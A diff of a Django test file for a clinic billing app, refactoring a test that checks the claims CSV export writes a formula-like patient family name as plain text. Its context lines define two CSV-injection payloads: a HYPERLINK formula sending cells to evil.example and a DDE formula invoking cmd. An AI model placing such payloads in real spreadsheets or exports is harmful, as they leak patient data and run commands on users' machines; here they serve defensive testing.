@@ -15,10 +15,16 @@ from django.utils import timezone
 from hypothesis import given
 from hypothesis import strategies as st
 
-from acuback import signing
 from acuback.audit.services import audit_record
 from acuback.web.csv_cells import FORMULA_STARTS, csv_writer, safe_cell
-from tests.factories import make_adverse_event, make_episode, make_session, make_user, request_for
+from tests.factories import (
+    clinic_today,
+    make_adverse_event,
+    make_episode,
+    make_signed_visit,
+    make_user,
+    request_for,
+)
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&C2&D2,"Open")'
 DDE = "=2+5+cmd|' /C calc'!A0@evil.example"
@@ -34,7 +40,6 @@ def _runs_as_formula(cell: str) -> bool:
 
 def test_the_claims_export_writes_a_formula_family_name_as_text(world, login):
     from acuback.billing.models import CoveragePlan, FeeSchedule, Payer
-    from acuback.treatment.models import Session
 
     world.patient.family_name = HYPERLINK
     world.patient.save()
@@ -43,12 +48,9 @@ def test_the_claims_export_writes_a_formula_family_name_as_text(world, login):
                                 effective_from=date(2025, 1, 1))
     FeeSchedule.objects.create(clinic=world.clinic, code="97810", amount="80.00")
     episode = make_episode(world.patient, world.practitioner, diagnosis_codes=["M54.50"])
-    session = make_session(world.patient, world.practitioner_record, world.location,
-                           episode=episode)
-    with signing.signing():  # arranging a note signed earlier
-        Session.objects.filter(pk=session.pk).update(
-            status="signed", signed_at=timezone.now(), cpt_codes={"97810": 1},
-            session_date=timezone.localdate() - timedelta(days=2))
+    # A signed visit as a signature leaves it (billing reads the codes from the record).
+    make_signed_visit(world.patient, world.practitioner_record, world.location,
+                      episode=episode, day=clinic_today(world.location) - timedelta(days=2))
 
     response = login(world.admin).get(reverse("claim_export"))
     rows = list(csv.DictReader(io.StringIO(response.content.decode())))
